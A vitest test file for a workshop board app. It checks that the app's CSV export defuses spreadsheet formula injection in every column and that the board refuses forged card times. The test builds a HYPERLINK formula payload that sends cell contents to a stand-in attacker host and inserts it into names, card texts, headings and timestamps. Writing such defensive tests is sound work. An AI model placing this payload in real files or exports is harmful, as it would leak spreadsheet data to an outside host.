import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { CLOSE } from '../../shared/sync/protocol';
import { boardRoom } from '../../shared/sync/rooms';
import { addCard, addCluster, cardsMap, setCardCluster } from '../../shared/workshops/board';
import type { WorkshopView } from '../../shared/api/workshops';
import { SyncHarness, synced, until } from '../helpers/sync-harness';
import { driverUnderTest } from '../helpers/test-database';
import { guestCookieFrom } from '../helpers/workshops';
import { stockholmDate } from '../../shared/calendar/stockholm-day';

/**
 * Issue 12, item 9: a workshop's CSV export opens in Excel, so no cell may start a formula, whichever
 * field it comes from (a guest's name, a group's name, a heading, a card's text, its time) and however
 * it got onto the board. A card's time is written by the client: the board refuses a forged one, and
 * the export defuses one stored before the board checked times.
 */
describe(`the CSV export defuses every cell, on ${driverUnderTest}`, () => {
  let h: SyncHarness;
  let facilitator: string;
  let workshop: WorkshopView;
  let room: string;
  const payload = (lead: string) => `${lead}HYPERLINK("http://angripare.example/?d="&A1;"Klicka")`;

  /** The CSV's records as cells (RFC 4180: quoted cells may hold the separator, quotes and line breaks). */
  function cells(csv: string): string[][] {
    const rows: string[][] = [[]];
    let cell = '';
    let quoted = false;
    for (let i = 0; i < csv.length; i++) {
      const char = csv[i]!;
      const endOfCell = () => {
        rows.at(-1)!.push(cell);
        cell = '';
      };
      if (quoted) {
        if (char === '"' && csv[i + 1] === '"') {
          cell += '"';
          i++;
        } else if (char === '"') quoted = false;
        else cell += char;
      } else if (char === '"') quoted = true;
      else if (char === ';') endOfCell();
      else if (char === '\r' && csv[i + 1] === '\n') {
        endOfCell();
        rows.push([]);
        i++;
      } else cell += char;
    }
    return rows.filter((row) => row.length > 0);
  }

  beforeAll(async () => {
    h = await SyncHarness.start({ persistBatchMs: 20 });
    facilitator = await h.login('processledare@exempelkommun.se');
    const today = stockholmDate(new Date());
    const created = await h.api<{ workshop: WorkshopView }>('POST', '/workshops', facilitator, { type: 'omvarldsdag', title: 'Omvärldsdag', date: today, groupNames: [payload('-')] });
    expect(created.status).toBe(201);
    workshop = created.body.workshop;
    room = boardRoom(workshop.id, workshop.groups[0]!.id);
    expect((await h.api('POST', `/workshops/${workshop.id}/control`, facilitator, { phaseId: 'grupparbete' })).status).toBe(200);
  });
  afterAll(() => h.stop());

  it('refuses a card whose time is a formula, over the socket', async () => {
    const joined = await h.api<{ participant: { participantId: string; name: string } }>('POST', '/workshops/join', undefined, { code: workshop.joinCode, name: 'Gäst' });
    const client = h.client(room, guestCookieFrom(joined.response)!);
    await synced(client);
    addCard(client.doc, { id: crypto.randomUUID(), text: 'Kort', categoryId: 'sociala:utmaningar', author: null, createdAt: payload('=') });
    await until(() => client.closes.includes(CLOSE.refused), 'the refusal', 5000);
    client.destroy();
  });

  it('puts no cell in the export that a spreadsheet would run, from any column', async () => {
    const joined = await h.api<{ participant: { participantId: string; name: string } }>('POST', '/workshops/join', undefined, { code: workshop.joinCode, name: payload('@') });
    expect(joined.status).toBe(200);
    const author = { participantId: joined.body.participant.participantId, name: joined.body.participant.name };
    const client = h.client(room, guestCookieFrom(joined.response)!);
    await synced(client);
    const texts = [payload('='), payload(' \t='), payload('+'), payload('\r='), payload('\u00a0-')];
    for (const text of texts) addCard(client.doc, { id: crypto.randomUUID(), text, categoryId: 'sociala:utmaningar', author, createdAt: new Date().toISOString() });
    const first = [...cardsMap(client.doc).keys()][0]!;
    client.doc.transact(() => {
      addCluster(client.doc, { id: 'rubrik', title: payload(' @'), categoryId: 'sociala:utmaningar', createdAt: new Date().toISOString() });
      setCardCluster(client.doc, first, 'rubrik');
    });
    await until(() => client.provider.synced && cardsMap(client.doc).size === texts.length, 'the cards written');
    // A card from a board stored before the guard checked a card's values: its time and category are formulas.
    await h.server.sync.applyToRoom(room, (doc) => {
      const map = new Y.Map<unknown>();
      map.set('text', new Y.Text('Gammalt kort'));
      map.set('categoryId', payload('='));
      map.set('clusterId', null);
      map.set('createdAt', payload('='));
      cardsMap(doc).set('gammalt', map);
    });
    expect(client.closes).toEqual([]);
    client.destroy();
    await h.server.sync.flushAll();

    const response = await fetch(`${h.server.url}/api/workshops/${workshop.id}/export.csv`, { headers: { cookie: facilitator, origin: h.server.url } });
    expect(response.status).toBe(200);
    const rows = cells((await response.text()).replace(/^\uFEFF/, ''));
    expect(rows.length).toBe(1 + texts.length + 1);
    const everyCell = rows.slice(1).flat();
    for (const cell of everyCell) expect(cell, JSON.stringify(cell)).not.toMatch(/^(?:[\t\r]|\s*[=+\-@])/);
    // Defused, not dropped: each payload is there behind its apostrophe.
    for (const text of texts) expect(everyCell).toContain(`'${text}`);
    expect(everyCell).toContain(`'${payload('@')}`);
    expect(everyCell).toContain(`'${payload('-')}`);
    expect(everyCell).toContain(`'${payload(' @')}`);
    expect(everyCell.filter((cell) => cell === `'${payload('=')}`).length).toBeGreaterThanOrEqual(2);
  });
});
